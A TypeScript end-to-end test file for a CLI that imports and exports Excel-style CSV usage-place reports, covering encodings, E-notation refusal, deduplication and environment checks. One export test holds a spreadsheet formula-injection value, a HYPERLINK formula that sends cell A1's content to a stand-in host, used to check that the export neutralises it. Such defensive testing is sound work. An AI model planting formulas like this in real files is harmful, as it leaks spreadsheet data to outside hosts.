import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { join } from 'node:path';
import { startSimulator, DEMO_APICODE, DEMO_CID, type Simulator } from '../../electron/sandbox/simulator.ts';
import { tempDir, testKeychainService } from '../helpers/harness.ts';
import { cp1252, utf16le } from '../helpers/excel-bytes.ts';
import { runCli } from './run-cli.ts';
import { openDatabase } from '../../electron/core/db/database.ts';
import { importAsTheOldVersionDid } from '../helpers/legacy-import.ts';

// The CSV "done when" of issues 14 and 8, end to end: files as Excel writes them, through
// the real CLI, delivered to the simulator over loopback, and the export read back.

let sim: Simulator;
let files: ReturnType<typeof tempDir>;
const keychain = testKeychainService();
const folders: ReturnType<typeof tempDir>[] = [];

before(async () => {
  sim = await startSimulator();
  files = tempDir();
});

after(async () => {
  for (const folder of folders) {
    await runCli(['sign-out'], envFor(folder.dir));
    folder.remove();
  }
  files.remove();
  await sim.close();
});

const envFor = (dataDir: string) => ({ USAGEPLACE_DATA_DIR: dataDir, USAGEPLACE_KEYCHAIN_SERVICE: keychain });

/** A data folder of its own, signed in to the simulator (or `to`): a PC, or one whose outbox was lost. */
async function freshPc(to: Simulator = sim): Promise<Record<string, string>> {
  const folder = tempDir();
  folders.push(folder);
  const env = envFor(folder.dir);
  const setup = await runCli(['setup', '--endpoint', to.url, '--cid', DEMO_CID], { ...env, USAGEPLACE_APICODE: DEMO_APICODE });
  assert.equal(setup.code, 0, setup.stderr);
  return env;
}

function file(name: string, bytes: Uint8Array | string): string {
  const path = join(files.dir, name);
  writeFileSync(path, bytes);
  return path;
}

async function listed(env: Record<string, string>): Promise<{ id: string; usageplacecode: string; state: string }[]> {
  const list = await runCli(['list', '--json'], env);
  assert.equal(list.code, 0, list.stderr);
  return JSON.parse(list.stdout) as { id: string; usageplacecode: string; state: string }[];
}

test('a Windows-1252 semicolon file and a UTF-16LE tab file reach Ropo One with their text and times', async () => {
  const env = await freshPc();
  const finnish = file('fi.csv', cp1252(
    'Tila;Käyttöpaikka;Asiakasnumero;Aika;Kuvaus\r\n' +
    'notdisconnected;643007572062443672;A123456;4.1.2024 10.41;Mittari käytävässä, ovi lukossa (ö å €)\r\n',
  ));
  const imported = await runCli(['import', finnish], env);
  assert.equal(imported.code, 0, imported.stderr);
  assert.match(imported.stdout, /fi\.csv: Read as Windows-1252 \(Excel's CSV\), separated by semicolons\./);
  assert.match(imported.stdout, /Queued 1 report from fi\.csv\./);

  const norwegian = file('no.txt', utf16le('status\tforbrukssted\ttid\tbeskrivelse\r\nconnected\t643007572062443673\t05.01.2024 08:15\tMålerskap åpnet\r\n'));
  const unicode = await runCli(['import', norwegian], env);
  assert.equal(unicode.code, 0, unicode.stderr);
  assert.match(unicode.stdout, /Read as UTF-16LE \(Excel's "Unicode text"\), separated by tabs\./);

  assert.equal((await runCli(['sync', '--timeout', '20'], env)).code, 0);
  const got = sim.record().accepted.map((a) => a.event);
  const fi = got.find((e) => e.usageplacecode === '643007572062443672');
  assert.equal(fi?.description, 'Mittari käytävässä, ovi lukossa (ö å €)');
  assert.equal(fi?.time, '2024-01-04 10:41:00');
  assert.equal(fi?.customernumber, 'A123456');
  const no = got.find((e) => e.usageplacecode === '643007572062443673');
  assert.equal(no?.time, '2024-01-05 08:15:00');
  assert.equal(no?.description, 'Målerskap åpnet');
});

test('a code Excel turned into 6,43008E+17 is refused naming Excel and the fix; nothing from the file is queued', async () => {
  const env = await freshPc();
  const mangled = file('mangled.csv', cp1252('status;usageplacecode;time\r\ndisconnected;643007572062443674;4.1.2024 10.41\r\ndisconnected;6,43008E+17;4.1.2024 10.42\r\n'));
  const refused = await runCli(['import', mangled], env);
  assert.equal(refused.code, 2);
  assert.match(refused.stderr, /line 3, usageplacecode: "6,43008E\+17" is a number Excel wrote in E-notation/);
  assert.match(refused.stderr, /format the column as Text before pasting the codes, or open the file through Data → From Text\/CSV/);
  assert.match(refused.stderr, /Nothing was queued from mangled\.csv\./);
  assert.deepEqual(await listed(env), []);
});

test('3 rows, then the same 3 plus one: 4 reports; the same 3 in a fresh data folder get the same 3 ids', async () => {
  const header = 'status;usageplacecode;customernumber;invoices;time;description';
  const rows = [
    'disconnected;IDEM-1;A1;594294:1234;4.1.2024 10.41;',
    'connected;IDEM-1;A1;;5.1.2024 8.15;',
    'notdisconnected;IDEM-2;A2;;2024-01-05 09:00;Meter room locked',
  ];
  const env = await freshPc();
  const three = await runCli(['import', file('three.csv', `${header}\n${rows.join('\n')}\n`)], env);
  assert.equal(three.code, 0, three.stderr);
  assert.match(three.stdout, /Queued 3 reports/);
  const firstIds = (await listed(env)).map((e) => e.id).sort();

  const four = await runCli(['import', file('four.csv', `\uFEFF${header}\r\n${[...rows, 'connected;IDEM-2;A2;;2024-01-06 10:00;'].join('\r\n')}\r\n`)], env);
  assert.equal(four.code, 0, four.stderr);
  assert.match(four.stdout, /3 rows already in the outbox, skipped; 1 queued\./);
  assert.equal((await listed(env)).length, 4);

  const otherPc = await freshPc();
  const again = await runCli(['import', file('three-again.csv', `${header}\n${rows.join('\n')}\n`)], otherPc);
  assert.equal(again.code, 0, again.stderr);
  assert.deepEqual((await listed(otherPc)).map((e) => e.id).sort(), firstIds);
});

test('export: a =HYPERLINK description comes out as text for Excel, and the file imports again queuing nothing', async () => {
  const env = await freshPc();
  const hyperlink = '=HYPERLINK("http://x.invalid/?"&A1,"open")';
  const made = await runCli(['report', '--status', 'notdisconnected', '--usageplace', 'EXP-1', '--description', hyperlink, '--time', '2024-01-04 10:41:40'], env);
  assert.equal(made.code, 0, made.stderr);
  const id = made.stdout.trim();
  await runCli(['report', '--status', 'connected', '--usageplace', 'EXP-2', '--time', '2024-02-01 08:00:00'], env);

  const out = join(files.dir, 'f.csv');
  const exported = await runCli(['export', '--out', out], env);
  assert.equal(exported.code, 0, exported.stderr);
  assert.match(exported.stdout, /^Exported 2 reports to f\.csv\.\n$/);
  const bytes = readFileSync(out);
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 with BOM');
  const text = bytes.toString('utf8');
  // In the file the cell is quoted, its quotes doubled, and it starts with an apostrophe:
  // Excel shows it as the text it is, never as a formula.
  assert.ok(text.includes(`;"'=HYPERLINK(""http://x.invalid/?""&A1,""open"")";${id};`), text);
  const rows = parse(text, { bom: true, columns: true, delimiter: ';' }) as Record<string, string>[];
  assert.deepEqual(rows.map((r) => [r.usageplacecode, r.description, r.id]), [['EXP-1', `'${hyperlink}`, id], ['EXP-2', '', rows[1]?.id]]);

  const again = await runCli(['import', out], env);
  assert.equal(again.code, 0, again.stderr);
  assert.match(again.stdout, /2 rows already in the outbox, skipped; 0 queued\./);
  assert.match(again.stderr, /Warning, line 1: Not imported, as the import does not know these columns: attempts, last_error/);
  assert.equal((await listed(env)).length, 2);
});

test('an export imported on a PC whose outbox was lost: the same ids reach Ropo One again, nothing sent or discarded is queued', async () => {
  const env = await freshPc();
  const report = async (place: string, time: string): Promise<string> => {
    const made = await runCli(['report', '--status', 'connected', '--usageplace', place, '--time', time], env);
    assert.equal(made.code, 0, made.stderr);
    return made.stdout.trim();
  };
  const sent = await report('LOST-1', '2024-01-04 10:41:40');
  assert.equal((await runCli(['sync', '--timeout', '20'], env)).code, 0);
  const discarded = await report('LOST-2', '2024-01-04 10:42:00');
  assert.equal((await runCli(['discard', discarded], env)).code, 0);
  // Exported while queued; delivered afterwards, before the outbox was lost.
  const delivered = await report('LOST-3', '2024-01-04 10:43:00');
  const out = join(files.dir, 'before-the-loss.csv');
  assert.equal((await runCli(['export', '--out', out], env)).code, 0);
  assert.equal((await runCli(['sync', '--timeout', '20'], env)).code, 0);

  const lost = await freshPc();
  const imported = await runCli(['import', out], lost);
  assert.equal(imported.code, 0, imported.stderr);
  assert.match(imported.stdout, /2 rows not in the outbox that the export lists as settled, not queued again; 1 queued\. \(as the export lists them: 1 sent, 1 discarded\.\)/);
  assert.deepEqual((await listed(lost)).map((e) => [e.id, e.usageplacecode]), [[delivered, 'LOST-3']]);
  assert.equal((await runCli(['sync', '--timeout', '20'], lost)).code, 0);
  const record = sim.record();
  assert.deepEqual(record.accepted.filter((a) => a.event.usageplacecode.startsWith('LOST-')).map((a) => a.event.id), [sent, delivered], 'no new ids');
  assert.equal(record.duplicatesById[delivered], 1, 'the resend came under the id Ropo One knows');
  assert.equal(record.duplicatesById[sent], undefined, 'the sent one was not sent again');
});

test("an export made where the app was set to another environment is refused on this one, naming the line; nothing is queued", async () => {
  // Two environments: the PC that exported was signed in to one, the PC that imports to the other.
  const elsewhere = await startSimulator();
  try {
    const testPc = await freshPc();
    const made = await runCli(['report', '--status', 'connected', '--usageplace', 'ENV-1', '--time', '2024-01-04 10:41:40'], testPc);
    assert.equal(made.code, 0, made.stderr);
    const id = made.stdout.trim();
    const out = join(files.dir, 'from-test.csv');
    assert.equal((await runCli(['export', '--out', out], testPc)).code, 0);

    const otherPc = await freshPc(elsewhere);
    const refused = await runCli(['import', out], otherPc);
    assert.equal(refused.code, 2, refused.stdout);
    const testUrl = new URL('/rest', sim.url).href;
    assert.match(refused.stderr, new RegExp(`  line 2: This row is report ${id}, which the export lists for ${testUrl.replace(/[.]/g, '\\.')} \\(cid ${DEMO_CID}\\), not for the environment and cid the app is set to now, so it is not sent here;`));
    assert.match(refused.stderr, /Nothing was queued from from-test\.csv\./);
    assert.deepEqual(await listed(otherPc), []);
    assert.equal((await runCli(['sync', '--timeout', '5'], otherPc)).code, 0);
    assert.deepEqual(elsewhere.record().accepted, [], 'nothing reached the other environment');

    // Where the app is set to the environment it was exported from: queued under its id.
    const samePc = await freshPc();
    const imported = await runCli(['import', out], samePc);
    assert.equal(imported.code, 0, imported.stderr);
    assert.deepEqual((await listed(samePc)).map((e) => [e.id, e.usageplacecode]), [[id, 'ENV-1']]);
  } finally {
    await elsewhere.close();
  }
});

test('a file the version before imported: exit 0, nothing queued, and it says so', async () => {
  const env = await freshPc();
  const text = 'status;usageplacecode\r\ndisconnected;LEGACY-1\r\nconnected;LEGACY-2\r\n';
  const db = openDatabase(join(env.USAGEPLACE_DATA_DIR!, 'outbox.sqlite'));
  try {
    importAsTheOldVersionDid(db, { baseUrl: sim.url, cid: DEMO_CID }, 'monday.csv', text, [
      { status: 'disconnected', usageplacecode: 'LEGACY-1', time: '2025-05-18 09:00:00' },
      { status: 'connected', usageplacecode: 'LEGACY-2', time: '2025-05-18 09:00:00' },
    ], new Date(2025, 4, 18, 9, 0, 0).getTime());
  } finally {
    db.close();
  }
  const again = await runCli(['import', file('monday-again.csv', text)], env);
  assert.equal(again.code, 0, again.stderr);
  assert.match(again.stdout, /monday-again\.csv was imported before, as monday\.csv on 2025-05-18 09:00:00: its 2 rows are already in the outbox, skipped; 0 queued\. \(Skipped: 2 queued\.\)/);
  assert.equal((await listed(env)).length, 2);
});

test('export to standard output: filters, --separator, and bad options named', async () => {
  const env = await freshPc();
  for (const [place, time] of [['STD-1', '2024-01-04 10:41:40'], ['STD-2', '2024-01-05 08:15:00'], ['STD-3', '2024-01-06 09:00:00']]) {
    assert.equal((await runCli(['report', '--status', 'connected', '--usageplace', place!, '--time', time!], env)).code, 0);
  }
  const out = await runCli(['export', '--from', '2024-01-05', '--to', '2024-01-06', '--separator', ',', '--state', 'queued'], env);
  assert.equal(out.code, 0, out.stderr);
  assert.ok(out.stdout.startsWith('\uFEFFstatus,usageplacecode,'));
  assert.deepEqual((parse(out.stdout, { bom: true, columns: true }) as Record<string, string>[]).map((r) => r.usageplacecode), ['STD-2', 'STD-3']);
  assert.match(out.stderr, /Exported 2 reports\./);
  const tabs = await runCli(['export', '--separator', 'tab', '--to', '2024-01-04'], env);
  assert.deepEqual((parse(tabs.stdout, { bom: true, columns: true, delimiter: '\t' }) as Record<string, string>[]).map((r) => r.usageplacecode), ['STD-1']);

  const bad = await runCli(['export', '--from', '2024-02-30', '--state', 'lost', '--separator', '|'], env);
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /--state: Use one of queued/);
  assert.match(bad.stderr, /--from: A day as YYYY-MM-DD/);
  const backwards = await runCli(['export', '--from', '2024-02-02', '--to', '2024-02-01'], env);
  assert.match(backwards.stderr, /--to: The last day comes before the first/);
  const separator = await runCli(['export', '--separator', '|'], env);
  assert.match(separator.stderr, /--separator: Use ";", "," or tab/);
  assert.equal(separator.stdout, '');
  const unwritable = await runCli(['export', '--out', join(files.dir, 'no-such-folder', 'x.csv')], env);
  assert.equal(unwritable.code, 1);
  assert.match(unwritable.stderr, /file_unwritable/);
});
